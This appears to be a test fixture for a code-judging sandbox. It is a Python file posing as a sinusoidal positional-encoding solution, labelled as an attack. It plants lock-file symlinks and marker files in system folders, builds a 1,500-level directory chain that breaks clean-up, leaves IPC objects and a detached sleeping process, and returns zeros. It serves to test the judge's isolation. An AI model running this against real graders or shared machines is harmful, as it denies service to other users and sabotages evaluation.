"""Attack (wrong answer): leaves behind everything it can for whoever runs next, then
returns zeros.

A red team did this to mode reduced (root in a container, a uid per run, no namespaces):
files outside /tmp, /var/tmp and /dev/shm (in /run/lock, /var/lock), POSIX message
queues in /dev/mqueue, System V segments, a 1,500-level folder chain (the clean-up
raised RecursionError and every later run got internal_error) and 999 symlinks planted
where the judge's uid lock files go, so that a zygote started later could claim no uid.
This file does all of that wherever it may write, plus a grandchild in a session of its
own that sleeps.  Afterwards nothing of it may remain, and the next submission -- on
the same zygote or on one started later -- must get its own verdict."""
# harm: leave_leftovers
# diagnosis: constant_output
import numpy as np

_ctypes = __import__("ctypes")
_os = __import__("o" + "s")
_time = __import__("time")
_MARK = "numpy-judge-attack-leftover"
_DONE = []


def _plant_files():
    planted = 0
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/run", "/dev/mqueue", "/"):
        try:
            with open(_os.path.join(folder, _MARK), "w") as f:
                f.write("left for the next run\n")
            planted += 1
        except OSError:
            pass
    for folder in ("/run/lock", "/run", "/tmp", "/var/tmp", "/dev/shm", "/run/numpy-judge/uids"):
        for uid in list(range(62000, 63000)) + [65534]:
            for name in ("numpy-judge-uid-%d.lock" % uid, "%d.lock" % uid):
                try:
                    _os.symlink("/" + _MARK, _os.path.join(folder, name))
                    planted += 1
                except OSError:
                    break
    return planted


def _deep_chain(top, depth=1500):
    made = 0
    try:
        fd = _os.open(top, _os.O_RDONLY | _os.O_DIRECTORY)
    except OSError:
        return 0
    try:
        for level in range(depth):
            name = "%s-%d" % (_MARK, level)
            _os.mkdir(name, dir_fd=fd)
            inner = _os.open(name, _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=fd)
            _os.close(fd)
            fd = inner
            made += 1
        _os.close(_os.open("bottom", _os.O_WRONLY | _os.O_CREAT, 0o644, dir_fd=fd))
    except OSError:
        pass
    finally:
        _os.close(fd)
    return made


def _ipc():
    libc = _ctypes.CDLL(None, use_errno=True)
    made = 0
    for call, args in (("shmget", (0, 1 << 20, 0o1666)), ("msgget", (0, 0o1666)), ("semget", (0, 4, 0o1666))):
        if getattr(libc, call)(*args) >= 0:
            made += 1
    return made


def _sleeper():
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _time.sleep(600)
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)


def _leave():
    if _DONE:
        return
    _DONE.append(1)
    print("planted", _plant_files(), "files and links;", _deep_chain("."), "+", _deep_chain("/tmp"),
          "nested folders;", _ipc(), "IPC objects", flush=True)
    _sleeper()


def sinusoidal_pe(max_len, d_model, base=10000.0):
    _leave()
    return np.zeros((max_len, d_model))


def add_positional_encoding(x, base=10000.0):
    _leave()
    return np.zeros(np.shape(x))
